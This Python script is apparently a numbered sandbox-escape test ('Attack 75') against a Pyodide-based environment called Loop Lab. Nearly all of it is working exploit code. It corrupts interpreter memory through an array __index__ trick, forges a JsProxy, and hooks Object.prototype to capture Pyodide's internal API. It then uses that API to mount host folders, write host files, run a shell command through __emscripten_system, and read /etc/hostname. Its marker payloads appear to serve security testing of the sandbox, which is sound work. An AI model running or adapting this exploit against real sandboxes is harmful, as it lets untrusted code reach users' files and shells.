# Attack 75: from attack 74's forged JsProxy to the host's files and a shell, with no code made
# from strings and nothing of `process` (atk3). Attack 74's primitives give a JavaScript object,
# and from it Object and Function. A Python function passed to JavaScript is a PyProxy, whose
# prototype has captureThis(); with Array.prototype.map, Function.prototype.call.bind and
# property descriptors (all JavaScript-side, so the PyProxy is never unwrapped) it becomes a
# getter on Object.prototype that hands the program `this`. Pyodide reads API.Comlink (a name API
# lacks) each time a JavaScript object comes to Python (is_comlink_proxy): the getter receives
# Pyodide's API object. Its public_api.mountNodeFS mounts any host folder on Emscripten's NODEFS,
# whose node:fs Pyodide took as it loaded: the program reads and writes the host's files with the
# user's rights; and the module's __emscripten_system (Emscripten's own, with its Node branch,
# kept on the module though Loop Lab replaced the wasm's import) runs a shell at once.
# Each attempt prints "blocked: ..." when it fails, "ESCAPED: ..." if it succeeded.
# HOSTDIR is replaced by the test with a folder of its own: each route writes a marker there.
HOSTDIR = "/tmp"
import array

ba = bytearray(64)


def write32(addr, value):
    a = array.array("i", [0]) * (addr // 4 + 1)

    class Evil:
        def __index__(self):
            del a[:]
            return value if value < 2**31 else value - 2**32

    a[addr // 4] = Evil()


try:
    for off, v in ((8, 0x7FFF0000), (12, 0x7FFF0000), (16, 0), (20, 0)):
        write32(id(ba) + off, v)
    mem = ba
    print("memory:", hex(len(mem)))
except Exception as error:
    print("blocked: memory,", type(error).__name__)
    raise SystemExit(0)


def r32(a):
    return int.from_bytes(mem[a:a + 4], "little")


def w32(a, v):
    mem[a:a + 4] = (v & 0xFFFFFFFF).to_bytes(4, "little")


def walk(c, seen):
    for s in type.__subclasses__(c):
        if s not in seen:
            seen.add(s)
            walk(s, seen)


seen = set()
walk(object, seen)
JsProxy = min((c for c in seen if c.__name__ == "JsProxy"), key=id)
kept = []


def fake_proxy(ref):
    buf = bytearray(128)
    p = r32(id(buf) + 16)
    w32(p, 0x100000)
    w32(p + 4, id(JsProxy))
    w32(p + 36, ref)
    holder = [None]
    w32(r32(id(holder) + 12), p)
    kept.append(buf)
    return holder[0]



Object = fake_proxy(12).constructor
Function = Object.constructor
caught = {}
busy = [False]


def getter():
    def hook(this, *args):
        if busy[0] or "API" in caught:
            return None
        busy[0] = True
        try:
            if Object.hasOwn(this, "public_api"):
                caught["API"] = this
        finally:
            busy[0] = False
        return None
    return hook


try:
    # Each PyProxy here is made JavaScript-side (read out of a dict), so never a borrowed one.
    prototypes = Object.values({"a": getter()}).map(Object.getPrototypeOf).map(Object.getOwnPropertyDescriptors)
    captureThis = Object.getOwnPropertyDescriptor(prototypes, "0").value.captureThis.value
    getters = Object.values({"Comlink": getter()}).map(Function.prototype.call.bind(captureThis))
    descriptor = Object()
    Object.defineProperty(descriptor, "get", Object.getOwnPropertyDescriptor(getters, "0"))
    Object.defineProperty(descriptor, "configurable", Object.getOwnPropertyDescriptor(Object.values({"c": True}), "0"))
    Object.defineProperty(Object.prototype, "Comlink", descriptor)
    for _ in range(3):
        Object.values({"b": getter()})  # JavaScript functions to Python: Pyodide reads API.Comlink
    API = caught["API"]
    print("Pyodide's API object:", API.version)
except Exception as error:
    print("blocked: a getter on Object.prototype,", type(error).__name__, str(error).split("\n")[0][:120])
    raise SystemExit(0)

try:
    API.public_api.mountNodeFS("/atk75", HOSTDIR)
    with open("/atk75/attack-75-nodefs", "w") as f:
        f.write("written by a Loop Lab program\n")
    print("ESCAPED: wrote a host file through NODEFS in", HOSTDIR)
except Exception as error:
    print("blocked: NODEFS,", type(error).__name__, str(error).split("\n")[0][:120])

try:
    NODEFS = API.public_api._module.FS.filesystems.NODEFS
    API.public_api._module.FS.mkdirTree("/atk75b")
    API.public_api._module.FS.mount(NODEFS, Object.fromEntries([["root", HOSTDIR]]), "/atk75b")
    with open("/atk75b/attack-75-fs-mount", "w") as f:
        f.write("written by a Loop Lab program\n")
    print("ESCAPED: wrote a host file through FS.mount in", HOSTDIR)
except Exception as error:
    print("blocked: FS.mount,", type(error).__name__, str(error).split("\n")[0][:120])

try:
    command = ("touch " + HOSTDIR + "/attack-75-shell\0").encode()
    address = id(command) + 16
    assert bytes(mem[address:address + 4]) == command[:4]
    status = API.public_api._module.__emscripten_system(address)
    print("ESCAPED: a shell," if status == 0 else "blocked: a shell, status", status)
except Exception as error:
    print("blocked: a shell,", type(error).__name__, str(error).split("\n")[0][:120])

try:
    API.loadBinaryFile("/etc/hostname").then(lambda data: print("ESCAPED: read a host file,", len(data), "bytes"))
    print("ESCAPED: loadBinaryFile")
except Exception as error:
    print("blocked: loadBinaryFile,", type(error).__name__, str(error).split("\n")[0][:120])
